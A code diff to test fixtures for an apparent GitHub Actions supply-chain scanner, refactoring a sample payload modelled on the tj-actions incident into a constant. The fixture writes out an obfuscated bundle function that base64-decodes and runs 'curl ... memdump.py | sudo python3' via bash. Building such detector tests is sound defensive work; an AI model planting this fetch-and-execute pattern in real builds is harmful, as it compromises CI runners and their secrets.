@@ -67,6 +67,9 @@ const npy = Buffer.concat([Buffer.from("\x93NUMPY\x01\x00v\x00{'descr': '<f8', '
 const fits = Buffer.concat([Buffer.from('SIMPLE  =                    T / conforming FITS'.padEnd(2880, ' '), 'latin1'), Buffer.alloc(2880, 0)]);
 const elf = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\x00', 'latin1'), Buffer.alloc(600, 0), noise(400, 9)]);
 
+/** tj-actions' kind of payload: a short shell script, base64-encoded in a bundle, decoded and run with bash. */
+const TJ_SHELL_PAYLOAD = `async function updateFeatures() {\n  await exec.getExecOutput('bash', ['-c', \`echo "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], { silent: true });\n}\n`;
+
 export const CASES: Case[] = [
   // --- incidents ---------------------------------------------------------------------------------
   {
@@ -137,7 +140,7 @@ export const CASES: Case[] = [
     head: {
       'dist/index.js':
         "'use strict';\nconst exec = require('@actions/exec');\nasync function gitVersion() {\n  return exec.getExecOutput('git', ['--version'], { silent: true });\n}\n" +
-        `async function updateFeatures() {\n  await exec.getExecOutput('bash', ['-c', \`echo "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], { silent: true });\n}\n`
+        TJ_SHELL_PAYLOAD
     },
     expect: ['obfuscation/shell-decode-exec', 'code/dist-exec-sink'],
     also: ['obfuscation/bundled-js-payload']
@@ -487,7 +490,7 @@ export const CASES: Case[] = [
     head: {
       'dist/index.js':
         "'use strict';\nconst exec = require('@actions/exec');\n" +
-        `async function updateFeatures() {\n  await exec.getExecOutput('bash', ['-c', \`echo "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3')}" | base64 -d > /tmp/run.sh && bash /tmp/run.sh\`], { silent: true });\n}\n`
+        TJ_SHELL_PAYLOAD
     },
     expect: ['obfuscation/shell-decode-exec', 'code/dist-exec-sink'],
     also: ['obfuscation/bundled-js-payload']
